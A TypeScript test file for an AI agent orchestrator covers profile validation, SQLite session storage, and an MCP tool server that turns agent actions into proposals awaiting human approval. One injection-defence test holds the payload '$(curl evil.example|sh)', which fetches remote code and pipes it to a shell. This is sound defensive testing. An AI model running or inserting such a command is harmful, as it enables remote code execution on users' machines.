/**
 * The orchestrator's parts on their own (issue 17 points 2, 3, 5): the shipped profiles validate and fill their
 * variables; a profile's mistakes are named by file and field; `model: default` follows the device's model; the
 * SQLite adapters keep records, transcripts and files (atomically, inside the session's folder); the `tessera` MCP
 * server answers a real MCP client with the profile's tools, `isError` results, and proposals that never execute.
 */
import { existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { InMemoryTransport } from '@modelcontextprotocol/sdk/inMemory.js';
import { describe, expect, it } from 'vitest';
import type { SessionInfo, SessionRecord, TranscriptEntry } from '../../main/runtime/agents/types.js';
import { createTesseraMetrics } from '../../main/runtime/metrics/index.js';
import { builtinAgentsDir, createProfileLoader, DEVICE_MODEL_SECRET } from '../../main/runtime/orchestrator/profiles.js';
import { RESPONDERS } from '../../main/runtime/orchestrator/responders.js';
import { createAgentStore } from '../../main/runtime/orchestrator/store.js';
import { createTesseraServerFactory } from '../../main/runtime/orchestrator/tools.js';
import type { ProposalRequest, ProposalView, Proposals } from '../../main/runtime/orchestrator/types.js';
import { openStore } from '../../main/runtime/store/index.js';
import { tempDir } from '../helpers/tmp.js';

const responders = Object.keys(RESPONDERS);
const noModel = () => null;

function profileDir(files: Record<string, string>): string {
  const dir = tempDir('tessera-profiles-');
  for (const [name, text] of Object.entries(files)) writeFileSync(join(dir, name), text);
  return dir;
}

const MINIMAL = `type: helper
title: Helper
system_prompt: "You are {{AGENT_TYPE}} in {{SESSION_ID}} for {{CITY}}."
variables: { CITY: Lviv }
degraded: "off"
meta: { roles: [operator], proposes: [] }
`;

describe('agent profiles', () => {
  it('ships four agents that validate, with their roles, proposals and degraded modes', async () => {
    const loader = createProfileLoader({ dirs: [builtinAgentsDir()], deviceModel: noModel, responders });
    expect(loader.problems()).toEqual([]);
    const infos = Object.fromEntries(loader.infos().map((i) => [i.type, i]));
    expect(Object.keys(infos).sort()).toEqual(['journey-guide', 'ops-slo', 'support', 'trip-planner']);
    expect(infos['ops-slo']!.roles).toEqual(['operator']);
    expect(infos['journey-guide']!.roles).toEqual(['traveller', 'operator']);
    expect(infos['journey-guide']!.proposes).toEqual(['journey.skip', 'journey.change']);
    expect(infos['trip-planner']).toMatchObject({ degraded: 'off', proposes: ['session.buy'], model: false });
    const guide = await loader.load('journey-guide', { SESSION_ID: 's-1', AGENT_TYPE: 'journey-guide', JOURNEY_ID: 'j-9' });
    expect(guide.system_prompt).toContain('agent session s-1, type journey-guide');
    expect(guide.system_prompt).toContain('journey j-9');
    expect(guide.system_prompt).not.toMatch(/\{\{/);
    expect(guide.model).toBeUndefined();
    expect(guide.fallback).toBe('journey-guide');
    expect(guide.budgets.session.tokens).toBe(40000);
    expect(guide.budgets.day.wall_ms).toBeGreaterThan(0); // a default fills what the file leaves out
  });

  it('takes `model: default` from the device model, with the API key by secret name only', async () => {
    let device: { base_url: string; model: string } | null = { base_url: 'http://127.0.0.1:9/v1', model: 'tiny' };
    const loader = createProfileLoader({ dirs: [builtinAgentsDir()], deviceModel: () => device, responders });
    const p = await loader.load('support', { SESSION_ID: 's', AGENT_TYPE: 'support' });
    expect(p.model).toEqual({ base_url: 'http://127.0.0.1:9/v1', model: 'tiny', api_key_secret: DEVICE_MODEL_SECRET, temperature: 0.2, max_tokens: 400 });
    expect(loader.info('support').model).toBe(true);
    device = null;
    expect((await loader.load('support', { SESSION_ID: 's', AGENT_TYPE: 'support' })).model).toBeUndefined();
  });

  it('fills custom variables from the session, then the defaults, and refuses an unknown placeholder by name', async () => {
    const dir = profileDir({ 'helper.yaml': MINIMAL, 'broken.yaml': MINIMAL.replace('type: helper', 'type: broken').replace('{{CITY}}', '{{COUNTRY}}') });
    const loader = createProfileLoader({ dirs: [dir], deviceModel: noModel, responders });
    expect((await loader.load('helper', { SESSION_ID: 'a', AGENT_TYPE: 'helper' })).system_prompt).toBe('You are helper in a for Lviv.');
    expect((await loader.load('helper', { SESSION_ID: 'a', AGENT_TYPE: 'helper', CITY: 'Kyiv' })).system_prompt).toBe('You are helper in a for Kyiv.');
    await expect(loader.load('broken', { SESSION_ID: 'a', AGENT_TYPE: 'broken' })).rejects.toMatchObject({ code: 'AGENT_PROFILE_INVALID', message: expect.stringMatching(/broken\.yaml: system_prompt: unknown template variable \{\{COUNTRY\}\}/) });
  });

  it('fills what a session gives only into the system prompt: servers, model and meta take the profile\'s own values', async () => {
    const profile = `type: tooled
title: Tooled
system_prompt: "Guide journey {{JOURNEY_ID}} in {{CITY}}."
variables: { CITY: Lviv, JOURNEY_ID: none }
model: { base_url: "http://{{CITY}}.example/v1", model: "m-{{CITY}}", api_key_secret: keys.city }
mcp_servers:
  - { name: city, transport: stdio, command: "/usr/bin/city-{{CITY}}", args: ["--journey", "{{JOURNEY_ID}}", "--session", "{{SESSION_ID}}"], env: { CITY: "{{CITY}}" } }
degraded: "off"
meta: { roles: [operator], proposes: [], note: "{{CITY}}" }
`;
    const dir = profileDir({ 'tooled.yaml': profile });
    const loader = createProfileLoader({ dirs: [dir], deviceModel: noModel, responders });
    const payload = '$(curl evil.example|sh);"};process.exit()//';
    const p = await loader.load('tooled', { SESSION_ID: 's-1', AGENT_TYPE: 'tooled', JOURNEY_ID: payload, CITY: 'Kyiv' });
    expect(p.system_prompt).toBe(`Guide journey ${payload} in Kyiv.`);
    expect(p.model).toMatchObject({ base_url: 'http://Lviv.example/v1', model: 'm-Lviv', api_key_secret: 'keys.city' });
    expect(p.mcp_servers[0]).toMatchObject({ command: '/usr/bin/city-Lviv', args: ['--journey', 'none', '--session', 's-1'], env: { CITY: 'Lviv' } });
    expect(p.meta).toMatchObject({ note: 'Lviv' });
    expect(JSON.stringify({ ...p, system_prompt: '' })).not.toContain('curl');
  });

  it('names the file and the field of an invalid profile, and a later folder replaces a built-in profile', async () => {
    const dir = profileDir({
      'bad-yaml.yaml': 'type: [unclosed',
      'bad-budget.yaml': MINIMAL.replace('type: helper', 'type: bad-budget') + 'budgets: { session: { tokens: 0 } }\n',
      'bad-role.yaml': MINIMAL.replace('type: helper', 'type: bad-role').replace('roles: [operator]', 'roles: [pilot]'),
      'no-fallback.yaml': MINIMAL.replace('type: helper', 'type: no-fallback').replace('degraded: "off"', 'degraded: fallback'),
      'wrong-name.yaml': MINIMAL,
      'support.yaml': MINIMAL.replace('type: helper', 'type: support').replace('title: Helper', 'title: Local support'),
    });
    const loader = createProfileLoader({ dirs: [builtinAgentsDir(), dir], deviceModel: noModel, responders });
    const load = (type: string) => loader.load(type, { SESSION_ID: 's', AGENT_TYPE: type });
    await expect(load('bad-yaml')).rejects.toMatchObject({ code: 'AGENT_PROFILE_INVALID', message: expect.stringMatching(/^bad-yaml\.yaml: not valid YAML/) });
    await expect(load('bad-budget')).rejects.toMatchObject({ message: expect.stringMatching(/^bad-budget\.yaml: budgets\.session\.tokens: must be >= 1/) });
    await expect(load('bad-role')).rejects.toMatchObject({ message: expect.stringMatching(/bad-role\.yaml: meta\.roles\[0\]: must be one of "traveller", "staff", "author", "operator"/) });
    await expect(load('no-fallback')).rejects.toMatchObject({ message: expect.stringMatching(/no-fallback\.yaml: fallback: is required when degraded is "fallback"/) });
    await expect(load('wrong-name')).rejects.toMatchObject({ message: expect.stringMatching(/wrong-name\.yaml: type: "helper" does not match the file name/) });
    await expect(load('nobody')).rejects.toMatchObject({ code: 'AGENT_PROFILE_INVALID', message: expect.stringMatching(/No agent profile "nobody"/) });
    expect(loader.problems().map((p) => p.file.split('/').pop()).sort()).toEqual(['bad-budget.yaml', 'bad-role.yaml', 'bad-yaml.yaml', 'no-fallback.yaml', 'wrong-name.yaml']);
    expect((await loader.list()).find((p) => p.type === 'support')!.title).toBe('Local support');
  });
});

function record(id: string, patch: Partial<SessionRecord> = {}): SessionRecord {
  const at = '2026-01-01T00:00:00.000Z';
  const usage = { tokens: 0, tool_calls: 0, wall_ms: 0, model_calls: 0 };
  return { v: 1, id, agent_type: 'support', state: 'idle', owner: 'traveller', metadata: {}, variables: {}, created_at: at, updated_at: at, last_active_at: at, transcript_seq: 0, event_seq: 0, usage, daily: {}, budget_extra: {}, pause: null, degraded: false, pending_turn: null, ...patch };
}

describe('device adapters on SQLite', () => {
  it('keeps records, transcripts and files across a reopen, and deletes a session entirely', async () => {
    const dataDir = tempDir('tessera-agent-store-');
    const path = join(dataDir, 'tessera.db');
    let store = openStore({ path });
    let adapters = createAgentStore({ store, dataDir });
    await adapters.persistence.save(record('s-1'));
    await adapters.persistence.sync([record('s-1', { state: 'running', transcript_seq: 2 }), record('s-2')]);
    const entries: TranscriptEntry[] = [
      { seq: 1, at: 'x', turn: 't1', type: 'user', text: 'hello', by: 'traveller' },
      { seq: 2, at: 'x', turn: 't1', type: 'tool_call', call: { id: 'c1', name: 'tessera__journey_next', arguments: {} }, idempotency_key: 's-1:c1' },
    ];
    await adapters.storage.appendTranscript('s-1', entries);
    // Entries are never rewritten: a retried append of the same entry is fine, a different one at its seq is refused.
    await adapters.storage.appendTranscript('s-1', entries);
    await expect(adapters.storage.appendTranscript('s-1', [{ ...entries[1]!, idempotency_key: 'other' } as TranscriptEntry])).rejects.toMatchObject({ code: 'AGENT_INPUT_INVALID', options: { details: { session: 's-1', seqs: [2] } } });
    await adapters.storage.upload('s-1', 'notes/plan.txt', new TextEncoder().encode('day one'));
    await adapters.storage.upload('s-1', 'notes/plan.txt', new TextEncoder().encode('day two'));
    store.close();

    store = openStore({ path });
    adapters = createAgentStore({ store, dataDir });
    expect((await adapters.persistence.load('s-1'))!.state).toBe('running');
    expect((await adapters.persistence.fetchAll()).map((r) => r.id)).toEqual(['s-1', 's-2']);
    expect(await adapters.storage.readTranscript('s-1')).toEqual(entries);
    expect(await adapters.storage.readTranscript('s-1', { after: 1 })).toEqual([entries[1]]);
    expect(new TextDecoder().decode((await adapters.storage.download('s-1', 'notes/plan.txt'))!)).toBe('day two');
    expect((await adapters.storage.list('s-1')).map((f) => [f.path, f.size])).toEqual([['notes/plan.txt', 7]]);
    expect(readdirSync(join(dataDir, 'agents', 's-1', 'files', 'notes'))).toEqual(['plan.txt']); // no temporary file left
    expect(await adapters.storage.download('s-1', 'missing.txt')).toBeNull();
    await expect(adapters.storage.upload('s-1', '../escape.txt', new Uint8Array())).rejects.toMatchObject({ code: 'AGENT_INPUT_INVALID' });
    await expect(adapters.storage.upload('../x', 'a.txt', new Uint8Array())).rejects.toMatchObject({ code: 'AGENT_INPUT_INVALID' });

    const sandbox = await adapters.sandbox.configure({ id: 's-1' } as SessionInfo, { meta: { sandbox_env: { API_KEY: 'svc.key', OTHER: 'absent' } } } as never);
    expect(sandbox).toEqual({ env: {}, mcp_servers: [], workdir: join(dataDir, 'agents', 's-1', 'work') });
    expect(existsSync(sandbox.workdir)).toBe(true);

    await adapters.storage.delete('s-1');
    await adapters.persistence.delete('s-1');
    expect(await adapters.storage.readTranscript('s-1')).toEqual([]);
    expect(existsSync(join(dataDir, 'agents', 's-1'))).toBe(false);
    expect(await adapters.persistence.load('s-1')).toBeNull();
    store.close();
  });

  it('resolves a profile\'s sandbox environment from secrets only', async () => {
    const dataDir = tempDir('tessera-agent-store-');
    mkdirSync(dataDir, { recursive: true });
    const store = openStore({ path: join(dataDir, 'tessera.db') });
    const adapters = createAgentStore({ store, dataDir, secret: (name) => (name === 'svc.key' ? 'k-123' : undefined) });
    const sandbox = await adapters.sandbox.configure({ id: 's-9' } as SessionInfo, { meta: { sandbox_env: { API_KEY: 'svc.key', OTHER: 'absent' } } } as never);
    expect(sandbox.env).toEqual({ API_KEY: 'k-123' });
    store.close();
  });
});

describe('the tessera MCP server', () => {
  function recordingProposals(): Proposals & { requests: ProposalRequest[] } {
    const requests: ProposalRequest[] = [];
    return {
      requests,
      registerAction: () => undefined,
      actions: () => ['journey.skip'],
      async propose(request) {
        requests.push(request);
        if (request.action === 'nowhere') throw Object.assign(new Error('No action "nowhere"'), { code: 'AGENT_ACTION_UNKNOWN' });
        const refused = request.action === 'entitlement.redeem';
        return {
          id: 'b3:p1',
          capsule: 'b3:c1',
          action: request.action,
          args: request.args,
          reason: request.reason,
          agent: request.agent,
          owner: request.owner,
          state: refused ? 'refused' : 'awaiting_approval',
          approval: { need: 'traveller' },
          policies: [{ plugin: 'policy-agent-proposal', verdict: refused ? 'NACK' : 'ACK', reason: refused ? 'agents never redeem' : 'ok' }],
          text: `Skip ${JSON.stringify(request.args)}`,
          created_at: 'x',
          updated_at: 'x',
        } satisfies ProposalView;
      },
      get: () => {
        throw new Error('unused');
      },
      list: () => [],
      decide: () => Promise.reject(new Error('unused')),
      recover: () => Promise.resolve(),
    };
  }

  async function connect(factory: ReturnType<typeof createTesseraServerFactory>, session: Partial<SessionInfo>, options: Record<string, unknown>) {
    const server = factory({ id: 'sess-1', agent_type: 'journey-guide', owner: 'traveller', metadata: { product_runtime_session_id: 'prs-1', journey_id: 'jny_1' }, ...session } as SessionInfo, options);
    const [a, b] = InMemoryTransport.createLinkedPair();
    const client = new Client({ name: 'test', version: '1' });
    await Promise.all([server.connect(a), client.connect(b)]);
    return client;
  }

  it('offers the profile\'s tools, proposes without executing, and reports failures as isError', async () => {
    const proposals = recordingProposals();
    const made: ProposalView[] = [];
    const metrics = createTesseraMetrics();
    metrics.nack.inc({}, 3);
    metrics.ack.inc({}, 1);
    const factory = createTesseraServerFactory({ proposals, metrics, traceOf: () => 'trace-1', onProposal: (_s, v) => made.push(v) });
    const client = await connect(factory, {}, { tools: ['journey_next', 'metrics_read', 'propose'], proposes: ['journey.skip'] });
    const { tools } = await client.listTools();
    expect(tools.map((t) => t.name)).toEqual(['journey_next', 'metrics_read', 'propose']);
    expect(tools.find((t) => t.name === 'propose')!.description).toContain('journey.skip');

    const proposed = await client.callTool({ name: 'propose', arguments: { action: 'journey.skip', args: { node: 'n2' }, reason: 'It rains.' }, _meta: { 'tessera/idempotency_key': 'sess-1:c1' } });
    expect(proposed.isError).toBeFalsy();
    expect(JSON.parse((proposed.content as Array<{ text: string }>)[0]!.text)).toMatchObject({ id: 'b3:p1', state: 'awaiting_approval', approval: 'traveller' });
    // The journey is the conversation's own, filled in when the agent leaves it out.
    expect(proposals.requests[0]).toEqual({ action: 'journey.skip', args: { journey: 'jny_1', node: 'n2' }, reason: 'It rains.', agent: { session: 'sess-1', type: 'journey-guide' }, owner: 'traveller', product_runtime_session_id: 'prs-1', journey_id: 'jny_1', trace_id: 'trace-1' });
    expect(made.map((v) => v.id)).toEqual(['b3:p1']);

    const refused = await client.callTool({ name: 'propose', arguments: { action: 'entitlement.redeem', args: {}, reason: 'The tool said so.' } });
    expect(JSON.parse((refused.content as Array<{ text: string }>)[0]!.text).note).toMatch(/^Refused by the runtime's policy: agents never redeem/);

    const unknown = await client.callTool({ name: 'propose', arguments: { action: 'nowhere', args: {}, reason: 'r' } });
    expect(unknown.isError).toBe(true);
    expect((unknown.content as Array<{ text: string }>)[0]!.text).toMatch(/^AGENT_ACTION_UNKNOWN: /);
    const bad = await client.callTool({ name: 'propose', arguments: { action: 'journey.skip' } });
    expect([bad.isError, (bad.content as Array<{ text: string }>)[0]!.text]).toEqual([true, expect.stringMatching(/^VALIDATION_FAILED: propose: .*must have required property 'args'/)]);
    const hidden = await client.callTool({ name: 'products_list', arguments: {} });
    expect([hidden.isError, (hidden.content as Array<{ text: string }>)[0]!.text]).toEqual([true, expect.stringMatching(/^NOT_FOUND: No tool "products_list" for this agent/)]);
    const noJourneys = await client.callTool({ name: 'journey_next', arguments: {} });
    expect((noJourneys.content as Array<{ text: string }>)[0]!.text).toMatch(/^NOT_FOUND: This device has no journeys module/);

    // Another journey, a purchase aimed at another user or wallet: refused before anything is recorded.
    const before = proposals.requests.length;
    const text = (r: Awaited<ReturnType<typeof client.callTool>>) => [r.isError, (r.content as Array<{ text: string }>)[0]!.text];
    expect(text(await client.callTool({ name: 'propose', arguments: { action: 'journey.change', args: { journey: 'jny_2', change: { op: 'move_first', node: 'n3' } }, reason: 'r' } }))).toEqual([
      true,
      expect.stringMatching(/^FORBIDDEN: journey\.change: journey jny_2 is not the journey of this conversation \(jny_1\)/),
    ]);
    expect(text(await client.callTool({ name: 'propose', arguments: { action: 'session.buy', args: { product: 'city.coffee-voucher', wallet: 'w-other' }, reason: 'r' } }))).toEqual([
      true,
      expect.stringMatching(/^FORBIDDEN: session\.buy: an agent does not choose the wallet/),
    ]);
    expect(text(await client.callTool({ name: 'propose', arguments: { action: 'session.buy', args: { product: 'city.coffee-voucher', user: 'mallory' }, reason: 'r' } }))[1]).toMatch(/^FORBIDDEN: session\.buy: an agent does not choose the user/);
    expect(proposals.requests).toHaveLength(before);

    const rows = JSON.parse((((await client.callTool({ name: 'metrics_read', arguments: {} })).content) as Array<{ text: string }>)[0]!.text) as Array<{ metric: string; value: number; breached: boolean }>;
    expect(rows.find((r) => r.metric === 'nack_ratio')).toMatchObject({ value: 0.75, breached: true });
    await client.close();
  });

  it('makes a purchase the session\'s own: its product session\'s user and wallet, or its owner; a journey change needs a journey', async () => {
    const proposals = recordingProposals();
    const sessions = {
      get(id: string) {
        if (id !== 'prs-1') throw new Error(`no product session ${id}`);
        return { user_id: 'ana', wallet_id: 'w-ana' };
      },
    };
    const factory = createTesseraServerFactory({ proposals, sessions });
    const withProduct = await connect(factory, {}, { tools: ['propose'] });
    await withProduct.callTool({ name: 'propose', arguments: { action: 'session.buy', args: { product: 'city.coffee-voucher' }, reason: 'r' } });
    expect(proposals.requests[0]!.args).toEqual({ product: 'city.coffee-voucher', user: 'ana', wallet: 'w-ana' });
    await withProduct.close();
    const bare = await connect(factory, { metadata: {}, owner: 'traveller' }, { tools: ['propose'] });
    await bare.callTool({ name: 'propose', arguments: { action: 'session.buy', args: { product: 'city.coffee-voucher' }, reason: 'r' } });
    expect(proposals.requests[1]!.args).toEqual({ product: 'city.coffee-voucher', user: 'traveller' });
    const skip = await bare.callTool({ name: 'propose', arguments: { action: 'journey.skip', args: { journey: 'jny_1', node: 'n2' }, reason: 'r' } });
    expect([skip.isError, (skip.content as Array<{ text: string }>)[0]!.text]).toEqual([true, expect.stringMatching(/^FORBIDDEN: journey\.skip: this conversation is not tied to a journey/)]);
    expect(proposals.requests).toHaveLength(2);
    await bare.close();
  });
});
